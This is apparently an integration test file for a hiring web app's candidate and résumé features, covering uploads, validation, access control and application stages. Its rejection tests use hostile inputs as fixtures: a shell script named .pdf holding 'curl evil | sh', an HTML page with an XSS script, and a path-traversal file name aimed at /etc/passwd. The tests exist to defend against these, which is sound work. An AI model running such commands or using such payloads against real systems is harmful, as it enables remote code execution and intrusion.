import fs from 'node:fs';
import path from 'node:path';
import { listStages } from '../../../src/openings/openings.repository';
import { applyCandidate } from '../../helpers/writes';
import { describeEachDialect, type TestContext } from '../../helpers/test-context';
import { makeCandidate, makeInterview, makeOpening } from '../../helpers/hiring';
import { type Agent, createUser, csrfToken, signIn, signInAs } from '../../helpers/web';

const PDF = Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n');

function candidateForm(agent: Agent, token: string, fields: Record<string, string>, file?: { content: Buffer; name: string }, path = '/candidates') {
  let req = agent.post(`${path}?_csrf=${encodeURIComponent(token)}`);
  for (const [k, v] of Object.entries(fields)) req = req.field(k, v);
  if (file) req = req.attach('resume', file.content, file.name);
  return req;
}

describeEachDialect(
  'candidates, applications and résumés',
  (ctx: () => TestContext) => {
    let recruiter: Agent;
    let recruiterId: number;
    let token: string;
    let opening: Awaited<ReturnType<typeof makeOpening>>;
    const tmpFiles = () => fs.readdirSync(ctx().storage.tmpDir);
    const keptFiles = () => fs.readdirSync(ctx().storage.filesDir);

    beforeAll(async () => {
      const signedIn = await signInAs(ctx().app, ctx().db, 'recruiter');
      recruiter = signedIn.agent;
      recruiterId = signedIn.user.id;
      token = await csrfToken(recruiter, '/candidates/new');
      opening = await makeOpening(ctx().db, { roleKey: 'sdr_outbound', title: 'SDR Berlin' });
    });

    it('when a recruiter adds a candidate with a PDF résumé and an opening, then the résumé downloads as the same bytes, as an attachment with nosniff', async () => {
      const res = await candidateForm(recruiter, token, { name: 'Olga Petrova', email: 'Olga@Example.test', phone: '+49 30 1234567', linkedin_url: 'linkedin.com/in/olga-petrova', source: 'referral', referrer: 'Ivan', opening_id: String(opening.id) }, { content: PDF, name: 'olga cv.pdf' });
      expect(res.status).toBe(303);
      const id = Number(/\/candidates\/(\d+)/.exec(String(res.headers.location))![1]);
      const page = await recruiter.get(`/candidates/${id}`);
      expect(page.text).toContain('olga cv.pdf');
      expect(page.text).toContain('https://linkedin.com/in/olga-petrova');
      expect(page.text).toContain('SDR Berlin');
      const download = await recruiter.get(`/candidates/${id}/resume`).buffer(true).parse((r, cb) => {
        const chunks: Buffer[] = [];
        r.on('data', (c: Buffer) => chunks.push(c));
        r.on('end', () => cb(null, Buffer.concat(chunks)));
      });
      expect(download.status).toBe(200);
      expect(download.headers['content-type']).toBe('application/pdf');
      expect(download.headers['content-disposition']).toMatch(/^attachment; filename="olga cv.pdf"/);
      expect(download.headers['x-content-type-options']).toBe('nosniff');
      expect(Buffer.compare(download.body as Buffer, PDF)).toBe(0);
      const stored = await ctx().db.selectFrom('stored_files').selectAll().orderBy('id', 'desc').executeTakeFirstOrThrow();
      expect(stored.storage_key).toMatch(/^[0-9a-f]{32}$/);
      expect(fs.readFileSync(path.join(ctx().storage.filesDir, stored.storage_key)).equals(PDF)).toBe(true);
      expect(ctx().storage.root.startsWith(path.resolve('static'))).toBe(false);
      const application = await ctx().db.selectFrom('applications').selectAll().where('candidate_id', '=', id).executeTakeFirstOrThrow();
      expect(application).toMatchObject({ opening_id: opening.id, stage_id: opening.stages[0]!.id, status: 'active' });
      expect(tmpFiles()).toEqual([]);
    });

    it.each([
      ['a script named .pdf', Buffer.from('#!/bin/sh\ncurl evil | sh\n'), 'cv.pdf', 'not one of the accepted types'],
      ['an empty file', Buffer.alloc(0), 'empty.pdf', 'This file is empty'],
      ['an HTML page named .docx', Buffer.from('<html><script>alert(1)</script></html>'), 'cv.docx', 'not one of the accepted types'],
    ])('when the résumé is %s, then the message sits by the field, the rest of the form is kept and nothing is saved', async (_label, content, name, message) => {
      const before = keptFiles().length;
      const res = await candidateForm(recruiter, token, { name: 'Kept Name', email: 'kept@example.test', source: 'outbound', notes: 'kept notes' }, { content, name });
      expect(res.status).toBe(422);
      expect(res.text).toContain(message);
      expect(res.text).toContain('value="Kept Name"');
      expect(res.text).toContain('kept notes');
      expect(await ctx().db.selectFrom('candidates').select('id').where('email', '=', 'kept@example.test').execute()).toEqual([]);
      expect(keptFiles().length).toBe(before);
      expect(tmpFiles()).toEqual([]);
    });

    it('when the résumé is over the size limit, then it is refused with the limit named and no temporary file remains', async () => {
      const big = Buffer.concat([PDF, Buffer.alloc(1024 * 1024 + 10, 0x20)]);
      const res = await candidateForm(recruiter, token, { name: 'Big File', email: 'big@example.test', source: 'outbound' }, { content: big, name: 'big.pdf' });
      expect(res.status).toBe(422);
      expect(res.text).toContain('the limit is 1 MB');
      expect(res.text).toContain('value="Big File"');
      expect(tmpFiles()).toEqual([]);
      expect(await ctx().db.selectFrom('candidates').select('id').where('email', '=', 'big@example.test').execute()).toEqual([]);
    });

    it('when the file name tries to climb out of the folder, then the file is stored under a random name and the name is cleaned', async () => {
      const res = await candidateForm(recruiter, token, { name: 'Path Traversal', email: 'path@example.test', source: 'outbound' }, { content: PDF, name: '../../../etc/passwd.pdf' });
      expect(res.status).toBe(303);
      const stored = await ctx().db.selectFrom('stored_files').selectAll().orderBy('id', 'desc').executeTakeFirstOrThrow();
      expect(stored.original_name).toBe('passwd.pdf');
      expect(fs.existsSync(path.join(ctx().storage.filesDir, stored.storage_key))).toBe(true);
    });

    it('when there is no résumé, then the candidate is saved without one', async () => {
      const res = await candidateForm(recruiter, token, { name: 'No File', source: 'agency' });
      expect(res.status).toBe(303);
    });

    it('when the fields are wrong, then each message sits by its field', async () => {
      await makeCandidate(ctx().db, { email: 'taken@example.test' });
      const res = await candidateForm(recruiter, token, { name: '', email: 'TAKEN@example.test', phone: 'call me', linkedin_url: 'https://evil.example/in/x', source: 'referral', referrer: '' });
      expect(res.status).toBe(422);
      for (const message of ['Please fill this in.', 'Enter a phone number', 'Enter a LinkedIn profile address', 'Say who referred the candidate.']) expect(res.text).toContain(message);
      const dup = await candidateForm(recruiter, token, { name: 'Dup', email: 'TAKEN@example.test', source: 'inbound', inbound_channel: 'site' });
      expect(dup.status).toBe(422);
      expect(dup.text).toContain('A candidate with this email already exists.');
    });

    it('when a multipart form comes without the CSRF token, then it is refused before anything is stored', async () => {
      const res = await recruiter.post('/candidates').field('name', 'No Token').field('source', 'outbound').attach('resume', PDF, 'cv.pdf');
      expect(res.status).toBe(403);
      expect(tmpFiles()).toEqual([]);
    });

    it('when the list is searched and filtered, then only matching candidates show, a page at a time', async () => {
      const stageTwo = opening.stages[1]!.id;
      for (let i = 0; i < 27; i += 1) {
        const id = await makeCandidate(ctx().db, { name: `Listed Person${String(i).padStart(2, '0')}`, email: `listed${i}@example.test`, source: i % 2 ? 'inbound' : 'agency' });
        const appId = await applyCandidate(ctx().db, id, opening.id, recruiterId);
        if (i < 3) await ctx().db.updateTable('applications').set({ stage_id: stageTwo }).where('id', '=', appId).execute();
      }
      const byLastName = await recruiter.get('/candidates?q=person0');
      expect(byLastName.text).toContain('Listed Person00');
      expect(byLastName.text).not.toContain('Olga Petrova');
      const byEmail = await recruiter.get('/candidates?q=listed1');
      expect(byEmail.text).toContain('Listed Person10');
      const byStage = await recruiter.get(`/candidates?opening=${opening.id}&stage=${stageTwo}`);
      expect((byStage.text.match(/>Listed Person/g) ?? []).length).toBe(3);
      const bySource = await recruiter.get('/candidates?source=agency&q=listed');
      expect(bySource.text).toContain('Listed Person00');
      expect(bySource.text).not.toContain('Listed Person01');
      const first = await recruiter.get('/candidates?q=listed');
      expect(first.text).toContain('rel="next"');
      const second = await recruiter.get('/candidates?q=listed&page=2');
      expect((second.text.match(/>Listed Person/g) ?? []).length).toBe(2);
      expect(second.text).toContain('rel="prev"');
    });

    it('when an interviewer or another hiring manager asks for a candidate they have no part in, then it does not exist for them, résumé included', async () => {
      const interviewer = await createUser(ctx().db, 'interviewer');
      const otherManager = await createUser(ctx().db, 'hiring_manager');
      const { candidateId, applicationId } = await makeInterview(ctx().db, opening.id, [interviewer.id]);
      const stranger = await signIn(ctx().app, (await createUser(ctx().db, 'interviewer')).email);
      const other = await signIn(ctx().app, otherManager.email);
      for (const agent of [stranger, other]) {
        expect((await agent.get(`/candidates/${candidateId}`)).status).toBe(404);
        expect((await agent.get(`/candidates/${candidateId}/resume`)).status).toBe(404);
        expect((await agent.get(`/applications/${applicationId}`)).status).toBe(404);
        expect((await agent.get(`/openings/${opening.id}`)).status).toBe(other === agent ? 404 : 403);
      }
      const assigned = await signIn(ctx().app, interviewer.email);
      expect((await assigned.get(`/candidates/${candidateId}`)).status).toBe(200);
      expect((await assigned.get(`/applications/${applicationId}`)).status).toBe(200);
      const list = await stranger.get('/candidates');
      expect(list.text).not.toContain(`/candidates/${candidateId}"`);
      const managerEmail = (await ctx().db.selectFrom('users').select('email').where('id', '=', opening.hiringManagerId).executeTakeFirstOrThrow()).email;
      const manager = await signIn(ctx().app, managerEmail);
      expect((await manager.get(`/applications/${applicationId}`)).status).toBe(200);
      expect((await manager.get(`/openings/${opening.id}`)).status).toBe(200);
    });

    it('when a recruiter moves a candidate and rejects them, then a reason is required and the history shows both', async () => {
      const candidateId = await makeCandidate(ctx().db, { name: 'Moved Person' });
      const applicationId = await applyCandidate(ctx().db, candidateId, opening.id, recruiterId);
      const stages = await listStages(ctx().db, opening.id, 'en');
      expect((await recruiter.post(`/applications/${applicationId}/stage`).type('form').send({ _csrf: token, stage_id: String(stages[2]!.id) })).status).toBe(303);
      const noReason = await recruiter.post(`/applications/${applicationId}/status`).type('form').send({ _csrf: token, status: 'rejected', reason: '' });
      expect(noReason.status).toBe(422);
      expect(noReason.text).toContain('Say why the candidate is rejected.');
      expect((await recruiter.post(`/applications/${applicationId}/status`).type('form').send({ _csrf: token, status: 'rejected', reason: 'Weak written outreach' })).status).toBe(303);
      const page = await recruiter.get(`/applications/${applicationId}`);
      expect(page.text).toContain(`moved to ${stages[2]!.name}`);
      expect(page.text).toContain('Weak written outreach');
      const hired = await recruiter.post(`/applications/${applicationId}/status`).type('form').send({ _csrf: token, status: 'hired', reason: '' });
      expect(hired.status).toBe(422);
    });

    it('when a recruiter adds a candidate to an opening twice, then the first adds them and the second is told they apply there already', async () => {
      const candidateId = await makeCandidate(ctx().db, { name: 'Added Twice' });
      const first = await recruiter.post(`/candidates/${candidateId}/applications`).type('form').send({ _csrf: token, opening_id: String(opening.id) });
      expect(first.status).toBe(303);
      expect(first.headers.location).toMatch(/^\/applications\/\d+$/);
      const second = await recruiter.post(`/candidates/${candidateId}/applications`).type('form').send({ _csrf: token, opening_id: String(opening.id) });
      expect(second.status).toBe(303);
      expect(second.headers.location).toBe(`/candidates/${candidateId}`);
      expect((await recruiter.get(`/candidates/${candidateId}`)).text).toContain('Choose an open opening this candidate has not applied to yet.');
      expect(await ctx().db.selectFrom('applications').select('id').where('candidate_id', '=', candidateId).execute()).toHaveLength(1);
    });
  },
  { UPLOAD_MAX_MB: '1' },
);
